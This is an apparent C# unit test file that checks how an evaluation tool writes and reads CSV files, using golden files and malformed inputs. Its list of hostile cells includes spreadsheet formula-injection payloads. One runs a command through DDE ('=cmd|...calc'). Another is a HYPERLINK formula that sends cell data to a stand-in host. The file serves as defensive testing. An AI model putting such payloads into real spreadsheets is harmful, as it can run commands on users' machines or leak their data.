using FocusFlow.Core.Editing;
using FocusFlow.Core.Evaluation;

namespace FocusFlow.Core.Tests.Evaluation;

/// <summary>
/// The evaluation's CSVs: the bytes they have always had (the golden files were written by the hand-written writer
/// that CsvHelper replaced), and text that tries to break them or to run in a spreadsheet read back as it was.
/// </summary>
public class EvaluationCsvTests
{
    static string Golden(string name) => Path.Combine(AppContext.BaseDirectory, "Evaluation", "Golden", name);

    /// <summary>Cells that break naive CSV code, and cells that a spreadsheet would run as formulas.</summary>
    internal static readonly string[] HostileText =
    {
        "", " ", "  padded  ", "\ttabbed", "a,b", ",", "\"", "\"\"", "say \"hi\"", "\"quoted at both ends\"", "a\nb", "a\r\nb", "a\rb",
        "\n", "\r\n", "trailing\r", "=1+2", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1", "-1", "@SUM(A1)", "-a cat",
        "=cmd|' /C calc'!A0", "'=already escaped", "sep=;", "#comment", "ünïcödé ✓ 猫", "a|b", "\\", "\\\"", "x\"y",
    };

    internal static List<EvaluationRow> HostileRows()
    {
        var rows = new List<EvaluationRow>();
        for (int i = 0; i < HostileText.Length; i++)
        {
            var t = HostileText[i];
            var j = HostileText[(i + 7) % HostileText.Length];
            rows.Add(new EvaluationRow((EditMethod)(i % 3), i + 1, 1, t, j, t + j, i % 4 == 0 ? null : -0.5 + i / 7.0, i % 5 == 0 ? null : i / 3.0,
                i * 1.25, t, i % 2 == 0 ? null : j, (EvaluationStatus)(i % 3), i % 3 == 2 ? t : null));
        }
        return rows;
    }

    [Fact]
    public void ThePerCaseAndSummaryCsvsKeepTheirBytes()
    {
        var sample = EvaluationTablesTests.SampleRows();
        var hostile = HostileRows();
        Assert.Equal(File.ReadAllBytes(Golden("sample-cases.csv")), Utf8(EvaluationCsv.FormatCases(sample)));
        Assert.Equal(File.ReadAllBytes(Golden("sample-summary.csv")), Utf8(EvaluationCsv.FormatSummary(MethodSummary.Of(sample, EvaluationRequest.AllMethods))));
        Assert.Equal(File.ReadAllBytes(Golden("hostile-cases.csv")), Utf8(EvaluationCsv.FormatCases(hostile)));
        Assert.Equal(File.ReadAllBytes(Golden("hostile-summary.csv")), Utf8(EvaluationCsv.FormatSummary(MethodSummary.Of(hostile, EvaluationRequest.AllMethods))));
    }

    [Fact]
    public void HostileCellsReadBackAsTheyWereWritten()
    {
        using var dir = new TempDir();
        var rows = HostileRows();
        File.WriteAllText(dir.File("cases.csv"), EvaluationCsv.FormatCases(rows));
        Assert.Equal(rows, EvaluationCsv.ReadCases(dir.File("cases.csv")));
    }

    [Fact]
    public void FormulaLikeCellsAreWrittenAsTheyAre()
    {
        // Decided: not neutralised (see Csv): the CSVs are data, and a prefixed ' would change "-a cat" and negative numbers.
        var text = EvaluationCsv.FormatCases(HostileRows());
        var records = text.Split("\r\n");
        var formulas = Enumerable.Range(0, HostileText.Length)
            .Where(i => "=+-@".Contains(HostileText[i].FirstOrDefault()) && HostileText[i].IndexOfAny(new[] { ',', '"', '\r', '\n' }) < 0).ToList();
        Assert.Equal(6, formulas.Count);
        foreach (var i in formulas)
            Assert.Contains(records, r => r.StartsWith($"{(EditMethod)(i % 3)},{i + 1},1,{HostileText[i]},", StringComparison.Ordinal));
        Assert.DoesNotContain("'=1+2", text);
    }

    [Theory]
    [InlineData("method,case\r\nFocusFlow,1,extra\r\n", "(line 2) has 3 fields but 2")]
    [InlineData("method,case\r\nFocusFlow,\"1\r\n", "(line 2): a quoted field that is never closed")]
    [InlineData("method,case\r\n\"FocusFlow\"x,1\r\n", "(line 2): text after the closing quote")]
    public void AMalformedCsvIsAnErrorNamingTheFileAndLine(string text, string where)
    {
        using var dir = new TempDir();
        File.WriteAllText(dir.File("bad.csv"), text);
        var e = Assert.Throws<InvalidDataException>(() => EvaluationCsv.ReadSummary(dir.File("bad.csv")));
        Assert.StartsWith(dir.File("bad.csv") + ": ", e.Message);
        Assert.Contains(where, e.Message);
    }

    [Fact]
    public void BlankLinesAndAByteOrderMarkAreNotRecords()
    {
        using var dir = new TempDir();
        var summaries = MethodSummary.Of(EvaluationTablesTests.SampleRows(), EvaluationRequest.AllMethods);
        var text = EvaluationCsv.FormatSummary(summaries).Replace("\r\nFlowEdit", "\r\n\r\nFlowEdit") + "\r\n";
        File.WriteAllText(dir.File("summary.csv"), text, new System.Text.UTF8Encoding(encoderShouldEmitUTF8Identifier: true));
        Assert.Equal(summaries, EvaluationCsv.ReadSummary(dir.File("summary.csv")));
    }

    static byte[] Utf8(string text) => new System.Text.UTF8Encoding(encoderShouldEmitUTF8Identifier: false).GetBytes(text);
}
